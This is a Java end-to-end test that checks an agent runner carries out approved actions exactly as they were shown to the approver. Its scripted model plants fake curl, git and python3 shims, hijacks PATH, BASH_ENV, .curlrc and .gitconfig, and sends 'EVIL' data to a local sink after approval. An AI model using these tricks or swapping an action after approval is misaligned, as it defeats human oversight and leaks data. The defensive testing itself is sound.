package dev.muster.e2e.escape;

import dev.muster.e2e.ScriptedModel;
import dev.muster.e2e.Workforces;
import dev.muster.e2e.Workforces.Worker;
import dev.muster.e2e.escape.SceneRun.Group;
import dev.muster.e2e.escape.SceneRun.Stage;
import dev.muster.testkit.PostgresServer;
import dev.muster.testkit.model.Turn;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/// An agent's request is approved, and by then its model wants another: what was approved happens,
/// or nothing does.
final class AgentScenes implements Group {
  private static final String BINDS = "What an agent is let do is what was shown, to the letter.";
  private static final String GOOD = "good-as-shown";
  private static final String EVIL = "EVIL-not-shown";

  @Override
  public String name() {
    return "agents";
  }

  private interface Call {
    Turn with(Sinks sinks, String word);
  }

  private static final Map<String, Call> CALLS =
      new TreeMap<>(
          Map.of(
              "git-push",
              (_, word) ->
                  ScriptedModel.call(
                      "operation",
                      Map.of(
                          "kind",
                          "publish",
                          "writes",
                          List.of(Sinks.REPOSITORY),
                          "script",
                          push(word))),
              "http-request",
              (sinks, word) ->
                  ScriptedModel.call(
                      "http",
                      Map.of(
                          "url",
                          sinks.server().url() + "/" + word,
                          "method",
                          "POST",
                          "body",
                          word)),
              "mcp-call",
              (_, word) -> ScriptedModel.call("mcp_sink_put", Map.of("text", word)),
              "operation",
              (sinks, word) ->
                  ScriptedModel.call(
                      "operation",
                      Map.of(
                          "kind",
                          "production_deploy",
                          "network",
                          true,
                          "script",
                          "curl -s --data %s %s/%1$s".formatted(word, sinks.server().url()))),
              "sql-statement",
              (_, word) ->
                  ScriptedModel.call(
                      "sql",
                      Map.of(
                          "source",
                          "sink",
                          "statement",
                          "INSERT INTO heard (word) VALUES (?)",
                          "parameters",
                          List.of(word)))));

  /// What it pushes has been in the workspace since before it was asked about.
  private static String push(String branch) {
    return """
    export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*'
    git -C site push --quiet "$MUSTER_TARGET/shop.git" HEAD:refs/heads/%s
    """
        .formatted(branch);
  }

  @Override
  public void go(Stage stage) throws Exception {
    if (!Files.isExecutable(Path.of("/usr/bin/python3"))) {
      for (var name : CALLS.keySet()) {
        stage.scene("changed-" + name, BINDS, () -> new Outcome.Untried("there is no python3"));
      }
      return;
    }
    try (var camp = new Camp(stage.kit(), Machine.ofScenes(), "agents");
        var sinks = Sinks.open(camp);
        var model = new ScriptedModel()) {
      setUp(camp, model, sinks);
      says(model, sinks, GOOD);
      var asking = Node.up(camp);
      var run = asking.hold("none").path("run").asText();
      Node.until(() -> asking.pendingOf(run).size() == CALLS.size());
      var asked = asking.pendingOf(run);
      var shown = asked.stream().map(it -> asking.get("/approvals/" + it).body()).toList();
      asking.down();
      says(model, sinks, EVIL);
      var node = Node.up(camp);
      asked.forEach(it -> node.post("/approvals/" + it + "/approve", "{}"));
      Node.until(() ->
          !node.pendingOf(run).isEmpty() || node.state(run).matches("COMPLETED|FAILED|INCOMPLETE"));
      for (var name : CALLS.keySet()) {
        stage.scene("changed-" + name, BINDS, () -> came(name, shown, sinks.heard()));
      }
      node.down();
    }
  }

  private static Outcome came(String name, List<String> shown, List<String> heard) {
    var good = GOOD + name;
    if (shown.stream().noneMatch(it -> it.contains(good))) {
      return new Outcome.Escaped("it was not shown: " + shown);
    }
    var own = heard.stream().filter(it -> it.contains(name)).toList();
    if (own.isEmpty()) return new Outcome.Untried("what was approved was not done");
    return Outcome.heldIf(
        own.stream().allMatch(it -> it.contains(good)) && !heard.toString().contains(EVIL),
        "heard: " + heard);
  }

  private static void says(ScriptedModel model, Sinks sinks, String word) {
    var number = 0;
    for (var call : CALLS.entrySet()) {
      number++;
      model.worker(
          "WORKER_%03d".formatted(number),
          ScriptedModel.shell(plants(sinks.server(), word)),
          call.getValue().with(sinks, word + call.getKey()),
          ScriptedModel.write(number + "/out.txt", word),
          ScriptedModel.finish("It is done."));
    }
  }

  /// What would become of the request if any program of it looked into the workspace.
  private static String plants(Sink sink, String word) {
    return """
    printf 'data = "%1$s"\\nurl = "http://127.0.0.1:%2$d/%1$s"\\n' > .curlrc
    printf 'import sys\\nraise SystemExit("%1$s")\\n' > json.py
    printf '#!/bin/sh\\nexec /usr/bin/curl --data %1$s http://127.0.0.1:%2$d/%1$s\\n' > curl
    cp curl printf; cp curl python3; cp curl timeout; cp curl psql
    chmod +x curl printf python3 timeout psql
    git init --quiet site
    git -C site -c user.name=a -c user.email=a@b.invalid commit --quiet --allow-empty -m %3$sgit-push
    printf '[url "/nowhere"]\\n  insteadOf = /\\n' > .gitconfig; cp .gitconfig "$HOME/.gitconfig" || true
    cp curl git; chmod +x git
    export PATH=".:$PATH" BASH_ENV="$PWD/curl"; cp .curlrc "$HOME/.curlrc" || true
    """
        .formatted(EVIL, sink.port(), word);
  }

  private static void setUp(Camp camp, ScriptedModel model, Sinks sinks) throws IOException {
    var config = camp.home().resolve(".config");
    model.setUp(config);
    Files.writeString(
        config.resolve("muster/muster.conf"),
        """
        agents.mcp.sink { url = "%s/mcp", allow = [put] }
        agents.sql.sink { url = "%s", user = "%s" }
        """
            .formatted(sinks.server().url(), sinks.database(), PostgresServer.USER),
        StandardOpenOption.APPEND);
    for (var number = 1; number <= CALLS.size(); number++) {
      var worker = new Worker(number, 1, "", "out.txt", "", "test -s out.txt");
      Workforces.thinking(camp.workforce(), worker);
      var file = camp.workforce().resolve(worker.id() + "_Test.md");
      var can = "- **CAN create:** the deliverable\n- **CANNOT modify:** anything else\n";
      Files.writeString(
          file,
          Files.readString(file)
              .replace("out.txt", number + "/out.txt")
              .replace(can, "- **CAN create:** anything\n- **CAN use:** mcp_sink and sql_sink\n"));
    }
  }
}
